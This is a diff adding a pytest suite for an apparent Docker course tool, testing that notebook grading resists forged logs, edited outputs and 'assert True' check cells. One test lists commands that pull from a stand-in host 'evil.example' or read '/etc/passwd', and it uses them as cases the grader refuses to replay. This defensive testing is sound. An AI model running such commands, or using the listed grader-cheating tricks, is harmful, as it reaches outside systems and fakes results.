@@ -1,0 +1,246 @@
+"""Grading believes nothing but commands: honest work passes, in whatever way it was done; edited outputs, logs and cells gain nothing."""
+
+from __future__ import annotations
+
+import io
+import json
+from collections.abc import Sequence
+from pathlib import Path
+from typing import Any
+
+import nbformat
+import pytest
+
+from imagelab.cli.main import run
+from imagelab.course import catalog, notebooks
+from imagelab.course.exercise import perform, shown
+from imagelab.course.grade import commands_in, grade, grade_notebook
+from imagelab.course.nbgrader import assignment
+from imagelab.course.progress import FILE, Progress, Record
+from imagelab.course.record import written
+from imagelab.course.rehearsal import clean_lab
+from imagelab.errors import ImageLabError
+from imagelab.lab import Lab
+from imagelab.steps import Entry, read_log, write_log
+
+MOVED = catalog.exercise("moved-tag")
+
+
+def log_of(name: str, lines: Sequence[str]) -> tuple[str, ...]:
+    with clean_lab(catalog.exercise(name)) as lab:
+        perform(lab, lines)
+        return written(lab)
+
+
+def hand_in(folder: Path, cells: Sequence[str], *, log: Sequence[str] = (), outputs: Sequence[Any] = ()) -> Path:
+    """A notebook, and its progress beside it."""
+    made = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(cell) for cell in cells])
+    for cell in made.cells:
+        cell.outputs = list(outputs)
+    (folder / "x.ipynb").write_text(notebooks.normalise(made), encoding="utf-8")
+    if log:
+        (folder / FILE).write_text(Progress({"moved-tag": Record(1, 0, True, tuple(log))}).to_json(), encoding="utf-8")
+    return folder / "x.ipynb"
+
+
+OPEN = "lab.exercise('moved-tag')"
+
+
+# -- honest work --------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("exercise", list(catalog.exercises()), ids=lambda exercise: exercise.id)
+def test_a_log_of_the_solution_passes(exercise: Any) -> None:
+    found = grade(exercise, log_of(exercise.id, exercise.solution))
+    assert found.solved, (found.problem, found.verdict and found.verdict.missing)
+
+
+def test_a_log_that_a_notebook_wrote_passes(lab: Lab, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Containers of a notebook have a process each; grading runs them in its own: the same states come of it."""
+    monkeypatch.chdir(tmp_path)
+    monkeypatch.setenv("IMAGELAB_HOME", "")
+    for name in ("own-page", "own-layer", "second-note"):
+        practice = lab.exercise(name)
+        perform(practice.lab, practice.exercise.solution)
+        practice.check()
+        assert practice.won
+        practice.lab.docker("rm -f $(docker ps -aq)")
+        found = grade(practice.exercise, Progress.parse((tmp_path / FILE).read_text(encoding="utf-8")).records[name].log)
+        assert found.solved, found.problem
+
+
+def test_undone_steps_are_not_done_again() -> None:
+    with clean_lab(MOVED) as lab:
+        perform(lab, ["rmi mongo:3.2"])
+        lab.undo()
+        perform(lab, ["pull mongo:3.2"])
+        assert grade(MOVED, written(lab)).solved
+
+
+@pytest.mark.parametrize(
+    "cells",
+    [
+        ["%docker pull mongo:3.2"],
+        ["%%docker\n# the new one\ndocker pull -q \\\n  mongo:3.2\n"],
+        ["!docker pull mongo:3.2"],
+        ["x = 1\nlab.docker('pull mongo:3.2')"],
+        ["%docker images -a", "%%docker run -i --name box --pull always mongo:3.2 sh\nexit 0"],
+    ],
+)
+def test_without_a_log_the_cells_commands_count(tmp_path: Path, cells: list[str]) -> None:
+    (found,) = grade_notebook(hand_in(tmp_path, [OPEN, *cells]))
+    assert (found.solved, found.source) == (True, "cells")
+
+
+def test_each_exercise_has_the_cells_below_it() -> None:
+    cells = ["%docker pull a", OPEN, "%docker pull b", "# x", "lab.exercise('sweep')", "%%docker\nrmi c\nrmi d"]
+    assert commands_in(cells) == {"moved-tag": ("docker pull b",), "sweep": ("rmi c", "rmi d")}
+
+
+# -- cheating -----------------------------------------------------------------------------------------------
+
+
+def test_edited_outputs_gain_nothing(tmp_path: Path) -> None:
+    praise = nbformat.v4.new_output("stream", name="stdout", text="The tag that moved\n  [x] …\nSolved. …")
+    (found,) = grade_notebook(hand_in(tmp_path, [OPEN, "# %docker ..."], outputs=[praise]))
+    assert (found.solved, found.held, found.source) == (False, (False, False), "nothing")
+
+
+def test_saying_that_it_is_solved_gains_nothing(tmp_path: Path) -> None:
+    file = hand_in(tmp_path, [OPEN])
+    (tmp_path / FILE).write_text(Progress({"moved-tag": Record(9, 0, True, ())}).to_json(), encoding="utf-8")
+    assert not grade_notebook(file)[0].solved
+
+
+def edited(log: Sequence[str], **changes: Any) -> list[str]:
+    *rest, last = log
+    return [*rest, json.dumps(json.loads(last) | changes, ensure_ascii=False)]
+
+
+def test_an_edited_log_gains_nothing(tmp_path: Path) -> None:
+    """A line changed, left out, put in, or all of it forged: the commands are done again, and lead where they lead."""
+    honest = log_of("moved-tag", ["tag mongo:3.2 other"])
+    solved = log_of("moved-tag", ["pull mongo:3.2"])
+    wanted = json.loads(solved[-1])["state"]
+    forged = read_log(honest)
+    forged[-1] = Entry(forged[-1].command, {}, 0, read_log(solved)[-1].state)
+    tried = {
+        "leaves another lab than the log says": [edited(honest, state=wanted), list(write_log(forged))],
+        "line 4 of the log is damaged: it does not follow": [[*honest[:2], edited(honest[:3], exit_code=7)[-1], honest[3]]],
+        "is damaged": [[solved[0], *solved[2:]], [*solved, solved[-1]], ["nonsense"], ['{"imagelab": 1}', "[]"]],
+        "does not begin where the exercise starts": [["{\"imagelab\": 1}"], list(write_log(read_log(solved)[1:]))],
+    }
+    for why, logs in tried.items():
+        for log in logs:
+            (found,) = grade_notebook(hand_in(tmp_path, [OPEN, "%docker pull mongo:3.2"], log=log))
+            assert not found.solved and why in found.problem, (why, found)
+
+
+def test_a_forged_log_with_a_true_chain_is_judged_by_its_commands() -> None:
+    """Whoever makes the whole chain anew has only written down commands."""
+    claimed = [*read_log(log_of("moved-tag", [])), Entry(("tag", "mongo:3.2", "other"), {}, 0, None)]
+    found = grade(MOVED, list(write_log(claimed)))
+    assert not found.solved and found.verdict is not None and found.verdict.missing is not None
+
+
+@pytest.mark.parametrize(
+    "command",
+    ["save -o /tmp/x mongo:3.2", "cp box:/x /tmp/x", "pull evil.example/x", "run evil.example/x", "upstream set http://evil.example",
+     "--lab /tmp/x pull nginx", "serve", "lab", "build .", "load -i /etc/passwd", "undo", "export -o /tmp/x box"],
+)  # fmt: skip
+def test_a_command_that_reaches_outside_is_not_done_again(command: str, tmp_path: Path) -> None:
+    claimed = [*read_log(log_of("moved-tag", [])), Entry(tuple(command.split()), {}, 0, None)]
+    found = grade(MOVED, list(write_log(claimed)))
+    assert "is not done again" in found.problem
+    assert not grade(MOVED, lines=(command,)).solved
+
+
+def test_edited_check_cells_gain_nothing(tmp_path: Path) -> None:
+    made = assignment(notebooks.ROOT / "lessons" / "02-listing-images", "en")
+    for cell in made.cells:
+        if "assert" in cell.source:
+            cell.source = "assert True"
+    (tmp_path / "x.ipynb").write_text(notebooks.normalise(made), encoding="utf-8")
+    assert [one.solved for one in grade_notebook(tmp_path / "x.ipynb")] == [False] * 3
+
+
+# -- nbgrader -----------------------------------------------------------------------------------------------
+
+
+def solve(made: Any, solved: Sequence[str]) -> None:
+    for cell, following in zip(made.cells, made.cells[1:], strict=False):
+        if cell.source.startswith("lab.exercise(") and (name := cell.source.split('"')[1]) in solved:
+            following.source = "%%docker\n" + "\n".join(map(shown, catalog.exercise(name).solution))
+
+
+def test_an_assignment_solved_runs_through_and_unsolved_says_what_is_missing(tmp_path: Path) -> None:
+    lesson = notebooks.ROOT / "lessons" / "02-listing-images"
+    made = assignment(lesson, "en")
+    solve(made, ["moved-tag", "two-names", "sweep"])
+    notebooks.execute(made, tmp_path)
+    made = assignment(lesson, "en")
+    solve(made, ["moved-tag"])
+    with pytest.raises(ImageLabError, match="AssertionError.*no image is called `base:1` yet"):
+        notebooks.execute(made, tmp_path)
+
+
+def test_an_assignments_cells_have_what_nbgrader_reads() -> None:
+    made = assignment(notebooks.ROOT / "lessons" / "02-listing-images", "zh")
+    ours = [cell.metadata["nbgrader"] for cell in made.cells if "nbgrader" in cell.metadata]
+    assert len({one["grade_id"] for one in ours}) == len(ours)
+    for one in ours:
+        assert set(one) >= {"grade", "grade_id", "locked", "schema_version", "solution", "task"}
+        assert one["grade"] is not one["solution"] and one["locked"] is one["grade"]
+    points = sum(one.get("points", 0) for one in ours)
+    assert points == sum(len(one.checks) for one in catalog.by_lesson(catalog.lessons_folder())["02-listing-images"])
+    nbformat.validate(made)
+
+
+# -- the commands -------------------------------------------------------------------------------------------
+
+
+def imagelab(*words: str) -> tuple[int, str]:
+    out = io.StringIO()
+    code = run(words, stdin=io.StringIO(), stdout=out, stderr=out, environ={})
+    return code, out.getvalue()
+
+
+def test_check_says_it_as_text_and_as_json(tmp_path: Path) -> None:
+    file = str(hand_in(tmp_path, [OPEN, "%docker images", "lab.exercise('sweep')", "%docker image prune -f"]))
+    code, text = imagelab("check", file)
+    assert code == 1
+    assert text.splitlines()[0].startswith("[ ] moved-tag  0 of 2  `mongo:3.2` still stands for")
+    assert text.splitlines()[1].startswith("[x] sweep  4 of 4")
+    assert text.splitlines()[-1] == "1 of 2 exercises solved"
+    code, text = imagelab("check", "--format", "json", file)
+    found = json.loads(text)
+    assert (code, found["solved"], found["all"]) == (1, 1, 2)
+    assert found["exercises"][0]["missing"]["zh"] == "`mongo:3.2` 指的还是原来那个镜像"
+    assert imagelab("check", str(hand_in(tmp_path, [OPEN, "%docker pull mongo:3.2"])))[0] == 0
+
+
+def test_what_cannot_be_checked_is_a_sentence(tmp_path: Path) -> None:
+    (tmp_path / "bad.ipynb").write_text("{}", encoding="utf-8")
+    assert "is not a notebook" in imagelab("check", str(tmp_path / "bad.ipynb"))[1]
+    assert "cannot be read" in imagelab("check", str(tmp_path / "none.ipynb"))[1]
+    assert "no exercise is called 'nosuch'" in imagelab("check", str(hand_in(tmp_path, ["lab.exercise('nosuch')"])))[1]
+
+
+def test_progress_can_be_taken_along(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.chdir(tmp_path)
+    assert imagelab("progress")[1].startswith("Nothing solved yet.")
+    other = tmp_path / "other.json"
+    other.write_text(Progress({"sweep": Record(1, 0, True)}).to_json(), encoding="utf-8")
+    code, text = imagelab("progress", "--import", str(other))
+    assert code == 0 and "1 of" in text and "[x] sweep" in text
+    assert imagelab("progress", "--export", "mine.json") == (0, "wrote mine.json\n")
+    assert (tmp_path / "mine.json").read_text(encoding="utf-8") == imagelab("progress", "--json")[1]
+    assert "cannot be read" in imagelab("progress", "--import", "nosuch.json")[1]
+    assert "not a progress file" in imagelab("progress", "--import", str(hand_in(tmp_path, [])))[1]
+
+
+def test_an_assignment_is_written(tmp_path: Path) -> None:
+    target = tmp_path / "a.ipynb"
+    assert imagelab("assignment", "05-commit", "-o", str(target))[0] == 0
+    assert "nbgrader" in target.read_text(encoding="utf-8")
+    assert "no lesson is called '5'" in imagelab("assignment", "5")[1]
